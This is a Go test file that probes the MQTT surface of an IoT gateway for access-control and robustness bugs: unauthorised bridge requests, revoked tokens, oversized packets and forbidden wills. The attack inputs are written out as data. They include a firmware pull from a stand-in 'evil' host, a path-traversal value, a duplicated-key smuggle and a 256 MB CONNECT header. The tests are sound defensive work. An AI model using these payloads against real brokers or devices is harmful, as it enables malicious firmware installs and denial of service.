package security

// Attacks on the MQTT surface of holo-gateway with its embedded broker.
//
// A refused publication is acked and dropped for MQTT 3.1.1 clients, so
// the tests prove it reached no one: an admin session subscribed to the
// command topics (what the gateway's bridge subscribes to) sees the
// attacker's next, allowed publication and nothing before it. The broker
// handles one client's packets in order and queues each subscriber's
// messages in order, so a refused message that had got through would
// have arrived first.

import (
	"encoding/json"
	"fmt"
	"net"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	paho "github.com/eclipse/paho.mqtt.golang"
)

// client is a paho session that records what it receives.
type client struct {
	c    paho.Client
	mu   sync.Mutex
	msgs []msg
	lost chan time.Time
}

type msg struct{ topic, payload string }

// dial logs in to the gateway's broker (user "" connects without
// credentials).
func dial(g *gateway, user, pass string) (*client, error) {
	cl := &client{lost: make(chan time.Time, 1)}
	o := paho.NewClientOptions().AddBroker(g.mqtt).SetClientID(fmt.Sprintf("sec-%s-%d", user, time.Now().UnixNano())).
		SetUsername(user).SetPassword(pass).SetConnectTimeout(3 * time.Second).SetAutoReconnect(false).
		SetConnectRetry(false).SetOrderMatters(true)
	o.SetDefaultPublishHandler(func(_ paho.Client, m paho.Message) { cl.add(m) })
	o.SetConnectionLostHandler(func(paho.Client, error) {
		select {
		case cl.lost <- time.Now():
		default:
		}
	})
	cl.c = paho.NewClient(o)
	tok := cl.c.Connect()
	if !tok.WaitTimeout(5 * time.Second) {
		return nil, fmt.Errorf("connect timed out")
	}
	if err := tok.Error(); err != nil {
		return nil, err
	}
	return cl, nil
}

func mustDial(t *testing.T, g *gateway, user, pass string) *client {
	t.Helper()
	cl, err := dial(g, user, pass)
	if err != nil {
		t.Fatalf("%s logs in: %v", user, err)
	}
	t.Cleanup(func() { cl.c.Disconnect(50) })
	return cl
}

func (cl *client) add(m paho.Message) {
	cl.mu.Lock()
	cl.msgs = append(cl.msgs, msg{m.Topic(), string(m.Payload())})
	cl.mu.Unlock()
}

func (cl *client) sub(t *testing.T, filters ...string) {
	t.Helper()
	fs := map[string]byte{}
	for _, f := range filters {
		fs[f] = 1
	}
	tok := cl.c.SubscribeMultiple(fs, nil)
	if !tok.WaitTimeout(5*time.Second) || tok.Error() != nil {
		t.Fatalf("subscribe %v: %v", filters, tok.Error())
	}
}

func (cl *client) pub(t *testing.T, topic, payload string) {
	t.Helper()
	tok := cl.c.Publish(topic, 1, false, payload)
	if !tok.WaitTimeout(5*time.Second) || tok.Error() != nil {
		t.Fatalf("publish %s: %v", topic, tok.Error())
	}
}

// wait returns the messages received up to the first that ok accepts.
func (cl *client) wait(t *testing.T, what string, ok func(msg) bool) []msg {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		cl.mu.Lock()
		for i, m := range cl.msgs {
			if ok(m) {
				got := append([]msg(nil), cl.msgs[:i+1]...)
				cl.mu.Unlock()
				return got
			}
		}
		n := len(cl.msgs)
		cl.mu.Unlock()
		if time.Now().After(deadline) {
			t.Fatalf("no %s (received %d messages)", what, n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// reset forgets what was received.
func (cl *client) reset() {
	cl.mu.Lock()
	cl.msgs = nil
	cl.mu.Unlock()
}

func withTx(topic, tx string) func(msg) bool {
	return func(m msg) bool { return m.topic == topic && strings.Contains(m.payload, `"transaction":"`+tx+`"`) }
}

// commandWatcher is an admin session subscribed to what the bridge
// takes, waiting until the bridge is online; it returns the watcher and
// a board's topic name.
func commandWatcher(t *testing.T, g *gateway) (*client, string) {
	t.Helper()
	w := mustDial(t, g, "watch", g.token(t, "watch", "admin"))
	w.sub(t, "holo/+/set/+", "holo/group/+/set/+", "holo/bridge/request/+", "holo/bridge/response/+",
		"holo/bridge/state", "holo/bridge/boards")
	w.wait(t, "bridge online", func(m msg) bool { return m.topic == "holo/bridge/state" && strings.Contains(m.payload, "online") })
	var boards []struct{ Name string }
	for _, m := range w.wait(t, "board list", func(m msg) bool {
		return m.topic == "holo/bridge/boards" && strings.Contains(m.payload, `"name"`)
	}) {
		if m.topic == "holo/bridge/boards" {
			boards = nil
			_ = json.Unmarshal([]byte(m.payload), &boards)
		}
	}
	if len(boards) == 0 {
		t.Fatal("no boards in holo/bridge/boards")
	}
	w.reset()
	return w, boards[0].Name
}

// refusedUnseen publishes the attacks as cl, then the allowed marker
// request, and fails if the watcher saw any attack before the marker.
func refusedUnseen(t *testing.T, w, cl *client, who string, attacks [][2]string) {
	t.Helper()
	for _, a := range attacks {
		cl.pub(t, a[0], a[1])
	}
	tx := fmt.Sprintf("marker-%d", time.Now().UnixNano())
	cl.pub(t, "holo/bridge/request/health", `{"transaction":"`+tx+`"}`)
	seen := w.wait(t, who+"'s marker", withTx("holo/bridge/request/health", tx))
	for _, m := range seen {
		for _, a := range attacks {
			if m.topic == a[0] && m.payload == a[1] {
				t.Errorf("ATTACK PASSED: %s published %s %s and subscribers (the bridge among them) got it", who, a[0], a[1])
			}
		}
	}
	// The marker's response shows the bridge took the allowed request.
	w.wait(t, who+"'s marker response", withTx("holo/bridge/response/health", tx))
}

// TestMQTTAnonymousRequestRefused: a client without credentials cannot
// make the gateway do what the REST API keeps for admins (create a
// rollout, pull firmware onto a board, restart it) by publishing bridge
// requests. Without a role for anonymous clients (not demo mode) it
// cannot connect at all; in demo mode it is an operator on loopback.
func TestMQTTAnonymousRequestRefused(t *testing.T) {
	t.Parallel()
	g := startGateway(t)
	w, board := commandWatcher(t, g)
	anon := mustDial(t, g, "", "")
	attacks := [][2]string{
		{"holo/bridge/request/call", fmt.Sprintf(`{"board":%q,"method":"POST","path":"/ota/pull","body":{"url":"http://evil/fw.bin"},"transaction":"a1"}`, board)},
		{"holo/bridge/request/call", fmt.Sprintf(`{"board":%q,"method":"POST","path":"/restart","transaction":"a2"}`, board)},
		{"holo/bridge/request/rollout", `{"action":"create","plan":{"version":"6.6.6","all":true},"transaction":"a3"}`},
		{"holo/bridge/request/rollout", `{"action":"revert","id":"r1","transaction":"a4"}`},
		{"holo/" + board + "/set/update", `install`},
	}
	refusedUnseen(t, w, anon, "anonymous", attacks)
	if code, body := g.rest(t, "GET", "/v1/rollouts", ""); code != 200 || strings.Contains(string(body), "6.6.6") {
		t.Errorf("rollouts after the attack: %d %s", code, body)
	}

	// MQTT 5 clients are told (mosquitto_pub prints the PUBACK's reason).
	pub := lookBin(t, "mosquitto_pub")
	host, port, _ := net.SplitHostPort(strings.TrimPrefix(g.mqtt, "tcp://"))
	out, err := exec.Command(pub, "-V", "mqttv5", "-q", "1", "-h", host, "-p", port, "-t", "holo/bridge/request/rollout",
		"-m", `{"action":"create","plan":{}}`).CombinedOutput()
	if err != nil || !strings.Contains(strings.ToLower(string(out)), "not authorized") {
		t.Errorf("MQTT 5 anonymous rollout request: %v %s (want a \"not authorized\" PUBACK)", err, out)
	}

	// Outside demo mode no client connects without credentials.
	strict := startGateway(t, "--mqtt-anonymous", "none")
	if _, err := dial(strict, "", ""); err == nil || !strings.Contains(err.Error(), "not Authorized") {
		t.Errorf("anonymous login to a gateway without anonymous clients: %v", err)
	}
}

// TestMQTTViewerCannotSet: a viewer token's MQTT login reads but cannot
// command boards; an operator's can.
func TestMQTTViewerCannotSet(t *testing.T) {
	g := startGateway(t)
	w, board := commandWatcher(t, g)
	viewer := mustDial(t, g, "dash", g.token(t, "dash", "viewer"))
	viewer.sub(t, "holo/"+board+"/leds")
	red := `{"mode":"solid","colour":"#ff0000"}`
	refusedUnseen(t, w, viewer, "viewer", [][2]string{
		{"holo/" + board + "/set/leds", red},
		{"holo/group/1/set/leds", red},
		{"holo/" + board + "/set/scene", `{"end":true}`},
		{"holo/bridge/request/do", `{"selector":{"all":true},"action":{"kind":"leds","body":{"mode":"off"}},"transaction":"v1"}`},
	})
	viewer.mu.Lock()
	for _, m := range viewer.msgs {
		if strings.Contains(m.payload, "ff0000") {
			t.Errorf("the board took the viewer's colour: %s %s", m.topic, m.payload)
		}
	}
	viewer.mu.Unlock()

	// The operator's same command goes through and the board shows it.
	op := mustDial(t, g, "desk", g.token(t, "desk", "operator"))
	op.pub(t, "holo/"+board+"/set/leds", red)
	viewer.wait(t, "the board's red LEDs", func(m msg) bool {
		return m.topic == "holo/"+board+"/leds" && strings.Contains(m.payload, "ff0000")
	})

	// The audit log has the viewer's refusal and the operator's command,
	// each under its token's name, on the MQTT surface.
	deadline := time.Now().Add(10 * time.Second)
	for {
		code, raw := g.rest(t, "GET", "/v1/audit?limit=200", "")
		body := string(raw)
		if code == 200 && strings.Contains(body, `"dash"`) && strings.Contains(body, `"desk"`) &&
			strings.Contains(body, `"mqtt"`) && strings.Contains(body, "PermissionDenied") {
			// Each MQTT record says where the client connected from.
			var got []struct{ Token, Surface, Client string }
			if err := json.Unmarshal(raw, &got); err != nil {
				t.Fatalf("audit body: %v: %s", err, body)
			}
			for _, e := range got {
				// The embedded broker records the publisher; the bridge
				// must not record the same command again as its own.
				if e.Token == "mqtt-accept" {
					t.Errorf("a command recorded twice, the second time as the bridge's: %+v", e)
				}
				if e.Surface == "mqtt" && (e.Token == "dash" || e.Token == "desk") && !strings.HasPrefix(e.Client, "127.0.0.1:") {
					t.Errorf("MQTT audit record of %s without the client's address: %+v", e.Token, e)
				}
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("audit log without the MQTT records (%d): %s", code, body)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestMQTTOperatorCannotBridgeRequest: an operator token commands shows
// but cannot send the requests the REST API keeps for admins (rollouts,
// firmware, raw calls beyond show paths); an admin token can.
func TestMQTTOperatorCannotBridgeRequest(t *testing.T) {
	g := startGateway(t)
	w, board := commandWatcher(t, g)
	op := mustDial(t, g, "desk", g.token(t, "desk", "operator"))
	refusedUnseen(t, w, op, "operator", [][2]string{
		{"holo/bridge/request/rollout", `{"action":"create","plan":{"version":"6.6.6","all":true},"transaction":"o1"}`},
		{"holo/bridge/request/rollout", `{"action":"resume","id":"r1","transaction":"o2"}`},
		{"holo/bridge/request/call", fmt.Sprintf(`{"board":%q,"method":"POST","path":"/ota/pull","transaction":"o3"}`, board)},
		{"holo/bridge/request/call", fmt.Sprintf(`{"board":%q,"method":"POST","path":"/leds/../ota/pull","transaction":"o4"}`, board)},
		{"holo/bridge/request/call", fmt.Sprintf(`{"board":%q,"method":"PATCH","path":"/network","transaction":"o5"}`, board)},
		{"holo/bridge/request/call", fmt.Sprintf(`{"board":%q,"path":"/leds","path":"/ota/pull","method":"POST","transaction":"o6"}`, board)},
		{"holo/" + board + "/set/update", `install`},
		{"holo/" + board + "/set/restart", `{}`},
	})
	// What an operator may: a show call, and the brakes.
	op.pub(t, "holo/bridge/request/call", fmt.Sprintf(`{"board":%q,"method":"PATCH","path":"/leds","body":{"mode":"off"},"transaction":"ok1"}`, board))
	if m := w.wait(t, "the show call's response", withTx("holo/bridge/response/call", "ok1")); !strings.Contains(m[len(m)-1].payload, `"status":"ok"`) {
		t.Errorf("operator's show call: %s", m[len(m)-1].payload)
	}
	// An admin's rollout request reaches the bridge, which answers it.
	ad := mustDial(t, g, "root", g.token(t, "root", "admin"))
	ad.pub(t, "holo/bridge/request/rollout", `{"action":"create","plan":{},"transaction":"ad1"}`)
	w.wait(t, "the admin's rollout response", withTx("holo/bridge/response/rollout", "ad1"))
}

// TestMQTTNonLoopbackRefusesAnonymous: --mqtt-port 0.0.0.0:X opens the
// broker to the network; clients without credentials stay out unless
// --mqtt-allow-anonymous-remote says so, which warns.
func TestMQTTNonLoopbackRefusesAnonymous(t *testing.T) {
	g := startGateway(t, "--mqtt-port", "0.0.0.0:0")
	if _, err := dial(g, "", ""); err == nil || !strings.Contains(err.Error(), "not Authorized") {
		t.Errorf("anonymous login on 0.0.0.0: %v", err)
	}
	if !strings.Contains(g.out.String(), "clients without credentials refused") {
		t.Errorf("the banner does not say anonymous clients are refused:\n%s", g.out.String())
	}
	// Tokens still work there.
	mustDial(t, g, "desk", g.token(t, "desk", "operator"))

	// Asking for anonymous clients beyond loopback without the flag is a
	// usage error.
	cmd := exec.Command(gatewayBin(t), "demo", "--data", t.TempDir(), "--listen", "127.0.0.1:0",
		"--mqtt-port", "0.0.0.0:0", "--mqtt-anonymous", "viewer")
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 2 || !strings.Contains(string(out), "--mqtt-allow-anonymous-remote") {
		t.Errorf("--mqtt-anonymous beyond loopback: %v\n%s", err, out)
	}

	open := startGateway(t, "--mqtt-port", "0.0.0.0:0", "--mqtt-allow-anonymous-remote")
	mustDial(t, open, "", "")
	if !strings.Contains(open.out.String(), "WARNING: anyone who reaches 0.0.0.0:") {
		t.Errorf("no warning in the banner:\n%s", open.out.String())
	}
	if !strings.Contains(open.log.String(), "level=WARN") || !strings.Contains(open.log.String(), "without credentials") {
		t.Errorf("no warning logged:\n%s", open.log.String())
	}
}

// TestMQTTRevokedTokenDisconnected: revoking a token through the API ends
// its MQTT session within a second, and its secret logs in no more.
func TestMQTTRevokedTokenDisconnected(t *testing.T) {
	g := startGateway(t)
	secret := g.token(t, "tablet", "operator")
	cl := mustDial(t, g, "tablet", secret)
	other := mustDial(t, g, "desk", g.token(t, "desk", "operator"))
	g.revoke(t, "tablet")
	revoked := time.Now()
	select {
	case at := <-cl.lost:
		if d := at.Sub(revoked); d > time.Second {
			t.Errorf("session ended %v after the revocation, want within 1s", d)
		}
	case <-time.After(3 * time.Second):
		t.Fatal("ATTACK PASSED: the revoked token's session is still connected")
	}
	if _, err := dial(g, "tablet", secret); err == nil {
		t.Error("ATTACK PASSED: the revoked secret logged in again")
	}
	if !other.c.IsConnectionOpen() {
		t.Error("another token's session ended too")
	}
}

// TestMQTTOversizePacketRefused: a packet beyond --mqtt-max-packet ends
// the connection before the broker reads or allocates it, logged in or
// not; the broker goes on serving.
func TestMQTTOversizePacketRefused(t *testing.T) {
	g := startGateway(t, "--mqtt-max-packet", "4096")
	w, board := commandWatcher(t, g)
	op := mustDial(t, g, "desk", g.token(t, "desk", "operator"))
	big := `{"mode":"solid","colour":"` + strings.Repeat("f", 8000) + `"}`
	op.c.Publish("holo/"+board+"/set/leds", 1, false, big)
	select {
	case <-op.lost:
	case <-time.After(3 * time.Second):
		t.Error("ATTACK PASSED: an 8 KB packet was taken under a 4 KB limit")
	}

	// Before logging in: a CONNECT header announcing 256 MB.
	c, err := net.DialTimeout("tcp", strings.TrimPrefix(g.mqtt, "tcp://"), 2*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write([]byte{0x10, 0xff, 0xff, 0xff, 0x7f}); err != nil {
		t.Fatal(err)
	}
	_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
	if _, err := c.Read(make([]byte, 16)); err == nil || isTimeout(err) {
		t.Errorf("ATTACK PASSED: the connection stayed open after a 256 MB CONNECT header (%v)", err)
	}

	// The broker still serves, and the bridge never saw the big command.
	after := mustDial(t, g, "desk2", g.token(t, "desk2", "operator"))
	refusedUnseen(t, w, after, "operator", nil)
	w.mu.Lock()
	for _, m := range w.msgs {
		if len(m.payload) > 4096 {
			t.Errorf("an oversize message got through on %s", m.topic)
		}
	}
	w.mu.Unlock()
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}

// TestMQTTWillRefused: a will is a publication the broker makes for the
// client later; one on a topic the client may not publish refuses the
// login instead of running as a command when the client drops.
func TestMQTTWillRefused(t *testing.T) {
	g := startGateway(t)
	secret := g.token(t, "dash", "viewer")
	o := paho.NewClientOptions().AddBroker(g.mqtt).SetClientID("will-attack").SetUsername("dash").SetPassword(secret).
		SetConnectTimeout(3*time.Second).SetWill("holo/group/1/set/leds", `{"mode":"off"}`, 1, false)
	c := paho.NewClient(o)
	tok := c.Connect()
	if !tok.WaitTimeout(5*time.Second) || tok.Error() == nil {
		c.Disconnect(0)
		t.Fatal("ATTACK PASSED: a viewer logged in with a will on a set topic")
	}
}
